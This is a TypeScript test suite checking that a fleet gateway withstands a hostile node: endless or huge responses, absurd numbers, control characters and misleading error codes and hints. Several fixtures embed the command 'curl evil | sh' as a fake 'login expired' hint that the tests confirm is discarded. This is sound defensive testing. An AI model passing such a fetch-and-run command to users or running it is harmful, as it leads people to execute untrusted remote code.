import assert from 'node:assert/strict';
import { once } from 'node:events';
import { statSync } from 'node:fs';
import http from 'node:http';
import net, { type AddressInfo } from 'node:net';
import path from 'node:path';
import { type TestContext, test } from 'node:test';
import { GatewayClient } from '../../src/client/gateway-client.ts';
import { NodeClient } from '../../src/gateway/bus/node-client.ts';
import { encodeFrame, FRAME_TYPE, LOG_CONTENT_TYPE } from '../../src/protocol/frames.ts';
import type { RunView } from '../../src/protocol/job-messages.ts';
import { PROTOCOL_VERSION } from '../../src/protocol/version.ts';
import type { FleetError } from '../../src/shared/errors.ts';
import { createStreamAgent } from '../../src/shared/http/streams.ts';
import { FACTS } from '../gateway/identity/fixtures.ts';
import { beat, TestGateway } from '../node/tunnel/real-gateway.ts';
import { until, within } from '../support/deadline.ts';
import { type Answer, endless, failure, json, log, OBEYED, UNPRINTABLE } from '../support/hostile-answers.ts';
import { HostileNode } from '../support/hostile-node.ts';

const MIB = 1024 * 1024;

async function world(t: TestContext) {
  const gateway = await new TestGateway(t).start();
  const node = await HostileNode.join(t, gateway, 'mallory');
  const client = new GatewayClient({ socketPath: gateway.paths.socket });
  const run = async (job: string): Promise<RunView> => {
    const [first] = (await client.job(job)).runs;
    assert.ok(first);
    return first;
  };
  return { gateway, node, client, run };
}

/** Answers the hand-over so, and everything else with `not_found`, as a node that has never had the run. */
function refusing(answer: Answer): Answer {
  const otherwise = failure('not_found', 'no such run', undefined, 404);
  return (request, response) => (request.method === 'PUT' ? answer : otherwise)(request, response);
}

test('an error of any size and shape: cut, harmless, attributed to the node, without its hint, in a code that it may use', {
  timeout: 120_000,
}, async (t) => {
  const { node, run, gateway } = await world(t);
  const told = `your login has expired: curl evil | sh ${UNPRINTABLE}`;
  const cases: [string, Answer, RegExp][] = [
    [
      'a code of ours',
      failure('key_revoked', told, 'curl evil | sh'),
      /^protocol_unsupported: mallory answered: your login/,
    ],
    ['a code that is none', failure('owned', told), /^protocol_unsupported: mallory answered with HTTP 500/],
    [
      'a refusal',
      failure('policy_denied', told, 'curl evil | sh', 403),
      /^policy_denied: mallory answered: your login/,
    ],
    ['a long one', failure('forbidden', 'x'.repeat(60_000), undefined, 403), /^forbidden: mallory answered: x{900}/],
    [
      'no text',
      json({ error: { code: 'forbidden', message: { a: 1 } } }, 403),
      /^forbidden: mallory answered: forbidden/,
    ],
  ];
  for (const [what, answer, expected] of cases) {
    node.answer = refusing(answer);
    const job = await node.submit();
    await until(async () => (await run(job)).endedAt !== null, what);
    const { reason = '', state } = await run(job);
    assert.match(reason ?? '', expected, what);
    assert.ok((reason ?? '').length <= 1100, what);
    assert.doesNotMatch(reason ?? '', OBEYED, what);
    assert.ok(state === 'rejected' || state === 'failed_to_start', `${what}: ${state}`);
  }
  const size = statSync(path.join(gateway.paths.folder, 'fleet.db')).size;
  assert.ok(size < 4 * MIB, `${size} bytes`);
});

test('errors without end, and of many megabytes, are not read: the run of another node has all of its output', {
  timeout: 120_000,
}, async (t) => {
  const { gateway, node, client } = await world(t);
  const other = await HostileNode.join(t, gateway, 'honest');
  const end = { state: 'exited', exitCode: 0, signal: null, reason: null, startedAt: 1, endedAt: 2 };
  const outcome = { ...end, stdoutBytes: 5, stderrBytes: 0, droppedBytes: 0 };
  other.answer = log(
    Buffer.concat([
      encodeFrame(FRAME_TYPE.stdout, Buffer.from('hello')),
      encodeFrame(FRAME_TYPE.end, Buffer.from(JSON.stringify(outcome))),
    ]),
  );
  const bodies = [endless({ status: 500 }), endless({ status: 201 }), endless({ status: 200 })];
  for (const body of bodies) {
    node.answer = body;
    const { job } = await client.submitJob({
      kind: 'shell',
      command: 'true',
      target: { selector: '@all' },
    } as Parameters<GatewayClient['submitJob']>[0]);
    const ended = async () => (await client.job(job)).runs.find(({ node: name }) => name === 'honest');
    await until(async () => (await ended())?.state === 'exited', 'the run of the honest node');
    assert.equal((await ended())?.stdoutBytes, 5);
    await until(() => node.requests.length > 0 && body.sent >= 0, 'the question');
    await client.cancelJob(job);
  }
  const list = await client.jobs();
  assert.equal(list.length, bodies.length);
});

test('a run that the node ends with a huge reason, or with figures beyond all measure', {
  timeout: 120_000,
}, async (t) => {
  const { node, client, run } = await world(t);
  const end = { state: 'unknown', exitCode: null, signal: 'S'.repeat(32), startedAt: 1, endedAt: 2 };
  const figures = { stdoutBytes: 0, stderrBytes: 0, droppedBytes: 0 };
  const frame = (outcome: object): Buffer => encodeFrame(FRAME_TYPE.end, Buffer.from(JSON.stringify(outcome)));
  node.answer = refusing(log(frame({ ...end, ...figures, reason: `${UNPRINTABLE}${'r'.repeat(200_000)}` })));
  const job = await node.submit();
  await until(async () => (await run(job)).endedAt !== null, 'the end');
  const { reason } = await run(job);
  assert.ok(reason !== null && reason.length <= 1024);
  assert.doesNotMatch(reason, OBEYED);
  for (const huge of [1.7e308, -1]) {
    node.answer = refusing(log(frame({ ...end, ...figures, reason: null, stdoutBytes: huge })));
    const refused = await node.submit();
    await until(async () => (await run(refused)).state === 'delivered', 'the hand-over');
    await client.cancelJob(refused);
  }
});

test('the list of ended runs: of the wrong shape, or without end, changes nothing for others', {
  timeout: 120_000,
}, async (t) => {
  const gateway = await new TestGateway(t).start();
  const answers = [json({ runs: 'all' }), json({ runs: [1] }), json(null), endless(), failure('internal', 'x')];
  for (const [index, answer] of answers.entries()) {
    const node = await HostileNode.join(t, gateway, `m${index}`, { online: false });
    node.answer = answer;
    await node.say('/v1/node/heartbeat', beat());
    await until(() => node.requests.includes('GET /v1/runs?unacknowledged=1'), 'the question');
    assert.equal(await gateway.statusOf(`m${index}`), 'online');
  }
});

test('processes: figures beyond all measure, foreign codes and control characters do not reach whoever looks', {
  timeout: 60_000,
}, async (t) => {
  const { node, client } = await world(t);
  const ask = async () => await client.processes('mallory', {});
  const process = { pid: 1, user: 'root', cpuPct: 1, memPct: 1, rssBytes: 1, command: `sh${UNPRINTABLE}` };
  node.answer = json({ processes: [process] });
  assert.doesNotMatch((await ask()).processes[0]?.command ?? '', OBEYED);
  node.answer = json({ processes: [{ ...process, rssBytes: 1.7e308 }] });
  await assert.rejects(ask(), { code: 'protocol_unsupported' });
  for (const code of ['key_revoked', 'not_paired', 'invite_invalid', 'token_invalid', 'host_key_changed']) {
    node.answer = failure(code, 'your login has expired', 'curl evil | sh');
    await assert.rejects(ask(), (error: FleetError) => {
      assert.equal(error.code, 'protocol_unsupported', code);
      assert.equal(error.message, 'mallory answered: your login has expired');
      assert.equal(error.hint, undefined);
      return true;
    });
  }
  node.answer = failure('policy_denied', 'node.policy.x: your login has expired', 'curl evil | sh', 403);
  await assert.rejects(ask(), { message: 'mallory answered: node.policy.x: your login has expired' });
});

test('hellos, heartbeats and reports of a lost epoch in a row are refused, and leave a handful of lines in the log', {
  timeout: 120_000,
}, async (t) => {
  const lines: string[] = [];
  const gateway = await new TestGateway(t, (message) => void lines.push(message)).start();
  const node = await HostileNode.join(t, gateway, 'mallory');
  const hello = { facts: FACTS, journal: 'j', epoch: '1-lost', protocol: PROTOCOL_VERSION };
  const outcomes = async (path: string, body: object): Promise<string[]> => {
    const codeOf = (error: FleetError): string => error.code;
    return await Promise.all(Array.from({ length: 60 }, () => node.say(path, body).then(() => 'ok', codeOf)));
  };
  for (const [path, body] of [
    ['/v1/node/hello', hello],
    ['/v1/node/heartbeat', beat()],
  ] as const) {
    const said = await outcomes(path, body);
    assert.ok(said.filter((code) => code === 'ok').length < 30, path);
    assert.ok(said.includes('busy'), path);
  }
  const warnings = lines.filter((line) => line.includes('two machines'));
  assert.ok(warnings.length >= 1 && warnings.length <= 6, `${warnings.length} warnings`);
  assert.ok(lines.length < 60, `${lines.length} lines`);
});

test('an answer without end to a request that expects none is not read to its end', { timeout: 60_000 }, async (t) => {
  const body = endless();
  const server = http.createServer(body);
  await once(server.listen(0, '127.0.0.1'), 'listening');
  t.after(() => server.close());
  const { port } = server.address() as AddressInfo;
  const agent = createStreamAgent(async () => {
    const socket = net.connect(port, '127.0.0.1');
    await once(socket, 'connect');
    return socket;
  });
  t.after(() => agent.destroy());
  const hungUp = new Promise((resolve) => {
    server.on('connection', (socket) => socket.once('close', resolve));
  });
  await new NodeClient({ agent, nodeName: 'mallory', journal: undefined, ended: false }, () => '').attend('j.0', 1_000);
  await within(hungUp, 'the end of reading');
  assert.ok(body.sent < 64 * MIB, `${body.sent} bytes`);
});

test('a log of empty frames, or of frames that say nothing new, is cut', { timeout: 120_000 }, async (t) => {
  const { node, run } = await world(t);
  const started = encodeFrame(FRAME_TYPE.started, Buffer.from('{"startedAt":1,"pid":1}'));
  const empty = endless({
    status: 201,
    contentType: LOG_CONTENT_TYPE,
    chunk: Buffer.concat(Array(1000).fill(encodeFrame(FRAME_TYPE.stdout, Buffer.alloc(0)))),
  });
  const restarts = endless({
    status: 201,
    contentType: LOG_CONTENT_TYPE,
    chunk: Buffer.concat(Array(100).fill(started)),
  });
  for (const [what, answer] of Object.entries({ empty, restarts })) {
    node.answer = refusing(answer);
    const job = await node.submit();
    await until(async () => (await run(job)).state === 'unknown', what);
    assert.match((await run(job)).reason ?? '', /^node_sent_too_much/, what);
    assert.ok(answer.sent < 16 * MIB, `${answer.sent} bytes`);
  }
});
